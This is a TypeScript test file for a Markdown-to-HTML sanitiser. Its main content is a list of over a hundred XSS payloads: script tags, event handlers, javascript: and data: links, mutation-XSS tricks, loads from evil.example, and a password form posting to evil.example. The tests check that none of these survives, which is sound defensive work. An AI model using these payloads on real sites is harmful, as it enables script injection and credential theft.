import { describe, expect, test } from 'bun:test'
import fc from 'fast-check'
import { markdownToHtml } from './markdown.ts'

const tags = new Set(
  (
    'h3 h4 h5 h6 p div span br hr blockquote pre code kbd samp var a em strong b i u s del ins mark small sub sup abbr q cite dfn ' +
    'ul ol li dl dt dd details summary table caption thead tbody tfoot tr th td'
  ).split(' '),
)
const attributes: Record<string, RegExp> = {
  href: /^(?:https?:\/\/|mailto:|#readme-)/,
  rel: /^noopener nofollow$/,
  id: /^readme-./,
  title: /^/,
  start: /^\d{1,6}$/,
  tabindex: /^0$/,
  align: /^(?:left|center|right)$/,
  colspan: /^\d{1,2}$/,
  rowspan: /^\d{1,2}$/,
}

/** What in a piece of HTML must not be in a page, as a parser that is not the sanitiser's own reads it. */
function wrongIn(html: string): string[] {
  const wrong: string[] = []
  const ids = new Set<string>()
  const look = new HTMLRewriter()
    .on('*', {
      element(element) {
        const name = element.tagName.toLowerCase()
        if (!tags.has(name)) wrong.push(`<${name}>`)
        const its = new Map([...element.attributes].map(([key = '', value = '']) => [key.toLowerCase(), value]))
        for (const [key, value] of its) {
          if (!Object.hasOwn(attributes, key) || !attributes[key]?.test(value)) wrong.push(`${name} ${key}=${value}`)
        }
        const href = its.get('href')
        if (href !== undefined && !href.startsWith('#')) {
          if (its.get('rel') !== 'noopener nofollow') wrong.push(`${href} without rel`)
          // As a browser reads it, which leaves out what stands in between.
          const read = URL.parse(decoded(href), 'https://here.invalid/page')
          if (!read || !['http:', 'https:', 'mailto:'].includes(read.protocol)) wrong.push(`href ${href}`)
        }
        const id = its.get('id')
        if (id !== undefined && ids.has(id)) wrong.push(`id ${id} twice`)
        if (id !== undefined) ids.add(id)
      },
    })
    .onDocument({
      comments: (comment) => void wrong.push(`comment ${comment.text}`),
      doctype: () => void wrong.push('doctype'),
    })
  look.transform(html)
  return wrong
}

function decoded(text: string): string {
  return text.replaceAll('&amp;', '&').replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&gt;', '>')
}

const payloads = [
  // Scripts, in the spellings that filters have missed.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\t>alert(1)</script>',
  '<script/xss src=data:,alert(1)></script>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<script src=//evil.example/x.js',
  '</p><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<scrıpt>alert(1)</scrıpt>',
  '<script\0>alert(1)</script>',
  '\0<script>alert(1)</script>',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '    </code></pre><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml ><script>alert(1)</script>?>',
  '<!DOCTYPE html><html><head><script>alert(1)</script>',
  // Handlers.
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:x onerror\n=\nalert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=/ onmouseover="alert(1)">',
  '<b onclick=alert(1)>x</b>',
  '<a href="https://a.example" onmouseover="alert(1)">x</a>',
  '<a href="https://a.example/" onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p/onpointerenter=alert(1)>x</p>',
  '<div onanimationstart=alert(1) style="animation:x">x</div>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>',
  '<body onload=alert(1)>',
  '<html onpageshow=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<button onclick=alert(1)>x</button>',
  '<x contenteditable onblur=alert(1)>x</x>',
  // Addresses.
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))',
  '[x](java\nscript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](<&#1;javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://here.invalid/1)',
  '[x](//evil.example)',
  '[x](/user/logout)',
  '[x](\\\\evil.example)',
  '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
  '[x](https://a.example/"onmouseover=alert(1)//)',
  '[x]\n\n[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![" onerror="alert(1)](https://a.example/x.png)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="jav\u00adascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  '<a href=https://a.example target=_blank rel=opener ping=//evil.example download>x</a>',
  '<a href="https://a.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<area href="javascript:alert(1)"><map name=x>',
  // What would change the page around, or lead away from it.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<button form=x formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<p class="btn btn-primary" id="content">x</p>',
  '<h2 id="content">x</h2>',
  '<a id=x><a id=x name=y href=z>',
  '<img name=getElementById src=https://a.example/x.png>',
  '<table background="https://evil.example/x.png"><td background="javascript:alert(1)">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<template><script>alert(1)</script></template>',
  '<dialog open>x</dialog>',
  '<slot name=x></slot>',
  '<p popover id=x>x</p><p popovertarget=x>y</p>',
  // What a parser makes into something else when it reads its own output.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<option><style></option></select><img src=x onerror=alert(1)></style>',
  '<abbr title="</abbr><img src=x onerror=alert(1)>">x</abbr>',
  '<table><tr><td><table><a><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<p title=&quot;><img src=x onerror=alert(1)>',
  '\u2028<script>alert(1)</script>\u2029',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<img src=x onerror="alert(1)"'.repeat(50),
]

describe('what somebody has written', () => {
  test('runs nothing and looks like nothing of the page, whatever is tried', () => {
    expect(payloads.length).toBeGreaterThan(100)
    const around = ['', 'a\n\n', '> ', '| a |\n|---|\n| ', '<div>\n\n', '[x](https://a.example) ']
    for (const payload of payloads) {
      for (const before of around) {
        expect([payload, wrongIn(markdownToHtml(`${before}${payload}`))]).toEqual([payload, []])
      }
    }
  })

  test('stays so when it is read and written once more', () => {
    for (const payload of payloads) expect(wrongIn(markdownToHtml(markdownToHtml(payload)))).toEqual([])
  })

  test('is harmless in any combination', () => {
    const pieces = fc.oneof(
      fc.constantFrom(...payloads),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '`',
        '](',
        '![',
        '[',
        '&#',
        '\n',
        '\n\n',
        '    ',
        '</',
        '<!--',
        '-->',
        '=',
        'on',
        '\t',
      ),
      fc.string({ unit: 'grapheme', maxLength: 10 }),
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 8 }), (parts) => {
        expect(wrongIn(markdownToHtml(parts.join('')))).toEqual([])
      }),
      { numRuns: 400 },
    )
  })

  test('the look itself sees what is wrong', () => {
    expect(wrongIn('<script>x</script>')).toEqual(['<script>'])
    expect(wrongIn('<p onclick="x">')).toEqual(['p onclick=x'])
    expect(wrongIn('<a href="java\tscript:x">')).not.toEqual([])
    expect(wrongIn('<a href="https://a.example">')).toEqual(['https://a.example without rel'])
  })
})

describe('Markdown', () => {
  test.each([
    ['# A *b*\n## C', '<h3 id="readme-a-b">A <em>b</em></h3>\n<h4 id="readme-c">C</h4>\n'],
    ['# A\n# A', '<h3 id="readme-a">A</h3>\n<h3>A</h3>\n'],
    ['[x](#What-is)', '<p><a href="#readme-what-is">x</a></p>\n'],
    ['[x](https://a.example/)', '<p><a href="https://a.example/" rel="noopener nofollow">x</a></p>\n'],
    ['[x](mailto:a@b.example)', '<p><a href="mailto:a@b.example" rel="noopener nofollow">x</a></p>\n'],
    ['https://a.example/b', '<p><a href="https://a.example/b" rel="noopener nofollow">https://a.example/b</a></p>\n'],
    ['[x](docs/y.md)', '<p><span>x</span></p>\n'],
    [
      '![A shot](https://a.example/s.png)',
      '<p><a href="https://a.example/s.png" rel="noopener nofollow">A shot</a></p>\n',
    ],
    ['![](https://a.example/s.png)', '<p><a href="https://a.example/s.png" rel="noopener nofollow">Image</a></p>\n'],
    ['![A shot](shot.png) after', '<p><span>A shot</span> after</p>\n'],
    [
      '[![build](https://b.example/b.svg)](https://c.example/)',
      '<p><a href="https://c.example/" rel="noopener nofollow"><span>build</span></a></p>\n',
    ],
    ['```sh\na < b\n```', '<pre tabindex="0"><code>a &lt; b\n</code></pre>\n'],
    ['a  \nb', '<p>a<br />\nb</p>\n'],
    ['<details><summary>a</summary>b</details>', '<details><summary>a</summary>b</details>'],
    ['<center>a</center>', 'a'],
  ])('%j', (text, html) => {
    expect(markdownToHtml(text)).toBe(html)
  })

  test('a table keeps the sides of its columns, without a style', () => {
    expect(markdownToHtml('|a|b|\n|--:|:-:|\n|1|2|')).toContain('<td align="right">1</td>\n<td align="center">2</td>')
  })

  test('many references to one long address do not make a long page', () => {
    const html = markdownToHtml(`[a]: https://a.example/${'x'.repeat(1_900)}\n\n${'[a] '.repeat(20_000)}`)
    expect(html.length).toBeLessThan(1_000_000)
    expect(html).toContain('https://a.example/xxx')
    expect(markdownToHtml(`[a](https://a.example/${'x'.repeat(5_000)})`)).not.toContain('href')
  })

  test('a table that has far more cells than anybody typed is shown as it was typed', () => {
    const text = `${'|a'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|\n${'|\n'.repeat(10_000)}<b>&`
    const begun = process.cpuUsage()
    const html = markdownToHtml(text)
    expect(process.cpuUsage(begun).user / 1000).toBeLessThan(3_000)
    expect(html).toBe(`<pre tabindex="0"><code>${text.replace('<b>&', '&lt;b&gt;&amp;')}</code></pre>\n`)
    expect(markdownToHtml(`${'|a'.repeat(50)}|\n${'|-'.repeat(50)}|\n${'|b\n'.repeat(500)}`)).toContain('<td>b</td>')
  })

  const hard = {
    brackets: '[',
    pictures: '![',
    stars: '*a ',
    quotes: '> ',
    lists: '- a\n',
    ticks: '`a``',
    tags: '<b>',
    links: '[a](b',
    attributes: '<a b="c" ',
    comments: '<!-- ',
    cells: '|a',
    addresses: 'https://a.b/(',
    underscores: '_a__',
  }
  test.each(Object.entries(hard))('a README of nothing but %s is made in no time', (_, piece) => {
    const text = piece.repeat(Math.ceil(100_000 / piece.length)).slice(0, 100_000)
    const begun = process.cpuUsage()
    const html = markdownToHtml(text)
    // Generous: what takes longer with the square of the length takes minutes.
    expect(process.cpuUsage(begun).user / 1000).toBeLessThan(3_000)
    expect(html.length).toBeLessThan(2_000_000)
  })
})
